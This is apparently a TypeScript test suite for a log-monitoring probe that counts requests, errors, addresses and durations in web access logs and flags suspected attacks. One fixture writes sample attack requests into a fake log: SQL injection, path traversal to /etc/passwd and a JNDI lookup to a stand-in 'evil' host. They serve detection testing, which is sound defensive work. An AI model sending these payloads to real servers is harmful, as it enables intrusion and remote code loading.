import { describe, expect, it } from 'vitest';
import { z } from 'zod';
import accessLog from '../../src/probes/access-log.ts';
import { temporaryFolder } from '../targets/files/temporary-folder.ts';
import { figures, runProbe } from './run-probe.ts';

const { write, path } = temporaryFolder();
const now = Date.UTC(2026, 10, 22, 12);
const clock = { now: () => new Date(now) };
const run = (parameters: object) =>
  runProbe(accessLog, parameters, { clock, signal: AbortSignal.timeout(20_000) });

const line = (minutesAgo: number, address: string, request: string, status: number, more = '') => {
  const [, day, clockTime] =
    /T?(\d{4}-\d\d-\d\d)T([\d:]{8})/.exec(new Date(now - minutesAgo * 60_000).toISOString()) ?? [];
  const [year, , date] = (day ?? '').split('-');
  return `${address} - - [${date}/Nov/${year}:${clockTime} +0000] "${request} HTTP/1.1" ${status} 100${more}\n`;
};

describe('the access-log probe', () => {
  it('counts requests, how they ended, from where, and what looks like an attack', async () => {
    const files = write(
      'access.log',
      [
        line(90, '10.0.0.9', 'GET /old', 500),
        ...Array.from({ length: 12 }, (_, index) => line(20, '10.0.0.1', `GET /${index}`, 200)),
        line(10, '10.0.0.2', 'POST /login', 401),
        line(9, '10.0.0.2', 'GET /admin', 403),
        line(8, '10.0.0.3', 'GET /api', 429),
        line(7, '10.0.0.3', 'GET /api', 503),
        line(6, '10.0.0.4', 'GET /x?id=1%27%20OR%20%271', 200),
        line(5, '10.0.0.4', 'GET /../../etc/passwd', 404),
        line(4, '10.0.0.4', 'GET /', 200, ' "-" "\x24{jndi:ldap://evil/x}"'),
        'this is no request\n',
        line(1, '10.0.0.5', 'GET /<!channel>?../../x', 200),
      ].join(''),
    );
    const readings = await run({ files, window: '1h', limit: 10, top: 2 });
    expect(figures(readings)).toEqual({
      requests: 20,
      rate: 20 / 60,
      unread: 1,
      bytes: 2_000,
      'last-line-age': 60,
      'server-errors': 5,
      'client-errors': 20,
      denied: 2,
      'rate-limited': 1,
      addresses: 5,
      'addresses-over': 1,
      'address-requests[10.0.0.1]': 12,
      'address-requests[10.0.0.4]': 3,
      injections: 4,
      'injection-kinds[sql]': 1,
      'injection-kinds[traversal]': 2,
      'injection-kinds[shell]': 0,
      'injection-kinds[script]': 0,
      'injection-kinds[lookup]': 1,
    });
    const detail = (metric: string) => readings.find((one) => one.metric === metric)?.detail;
    expect(detail('addresses-over')).toBe('10.0.0.1');
    expect(detail('injections')).toContain('traversal: GET /\\u003c!channel\\u003e?../../x');
  });

  it('tells how long requests took, in milliseconds whatever the log counts in', async () => {
    const lines = Array.from({ length: 100 }, (_, index) =>
      line(5, '10.0.0.1', 'GET /', 200, ` "-" "curl/8" ${(index + 1) * 1000}`),
    );
    const files = write('timed.log', lines.join(''));
    const p95 = async (duration: object) =>
      figures(await run({ files, lines: 100, duration }))['duration-p95'];
    expect(Number(await p95({ unit: 'us' })) / 95).toBeCloseTo(1, 1);
    expect(Number(await p95({ unit: 'ms' })) / 95_000).toBeCloseTo(1, 1);
    expect(await p95({ match: 'rt=(\\d+)' })).toMatch(/No line says how long its request took/);
  });

  it('reads lines of JSON by their fields', async () => {
    const record = (status: number, seconds: number) =>
      JSON.stringify({
        time: new Date(now - 60_000).toISOString(),
        remote_addr: '10.0.0.1',
        status,
        request: 'GET /',
        body_bytes_sent: 7,
        request_time: seconds,
      });
    const files = write('json.log', `${record(200, 0.2)}\n${record(500, 0.2)}\n{"half":\n`);
    const readings = figures(await run({ files, window: '1h', json: { time: 'time' }, duration: {} }));
    expect(readings).toMatchObject({ requests: 2, unread: 1, bytes: 14, 'server-errors': 50 });
    expect(Number(readings['duration-p95']) / 200).toBeCloseTo(1, 1);
  });

  it('tells nothing of a log that is quiet, but how long', async () => {
    const files = write('quiet.log', line(90, '10.0.0.1', 'GET /', 200));
    expect(figures(await run({ files, window: '1h', duration: {} }))).toMatchObject({
      requests: 0,
      'server-errors': 0,
      addresses: 0,
      'last-line-age': 5_400,
      'duration-p95': 'There were no requests to take time.',
    });
  });

  it('is unknown for a log of something else, a missing one, and one with too much', async () => {
    const files = write('other.log', '2026-11-22T11:59:00Z all is well\n');
    await expect(run({ files, window: '1h' })).rejects.toThrow(
      /None of the 1 lines is of the common or combined/,
    );
    await expect(run({ files: path('none.log'), window: '1h' })).rejects.toThrow(/There is no log/);
    const much = write('much.log', line(1, '10.0.0.1', 'GET /', 200).repeat(100));
    await expect(run({ files: much, lines: 100, maxBytes: 1_000 })).rejects.toThrow(/more than 1000 bytes/);
  });

  it('counts a flood from more addresses than are told apart', async () => {
    const flood = Array.from({ length: 200_010 }, (_, index) =>
      line(1, `10.${index >> 16}.${(index >> 8) & 255}.${index & 255}`, 'GET /', 200),
    );
    const readings = await run({ files: write('flood.log', flood.join('')), window: '1h', top: 0 });
    expect(figures(readings)).toMatchObject({ requests: 200_010, addresses: 200_000 });
    expect(readings.find(({ metric }) => metric === 'addresses')?.detail).toBe(
      'and more that are not told apart',
    );
  });

  it('tells its parameters in JSON Schema, and refuses what it does not know', () => {
    const schema = z.toJSONSchema(accessLog.parameters, { io: 'input', unrepresentable: 'any' });
    expect(JSON.stringify(schema)).toContain('limit');
    const parse = (more: object) => accessLog.parameters.safeParse({ files: '/x', ...more }).success;
    expect([
      parse({ lines: 5 }),
      parse({}),
      parse({ lines: 5, window: '1h' }),
      parse({ lines: 5, limits: 1 }),
    ]).toEqual([true, false, false, false]);
  });
});
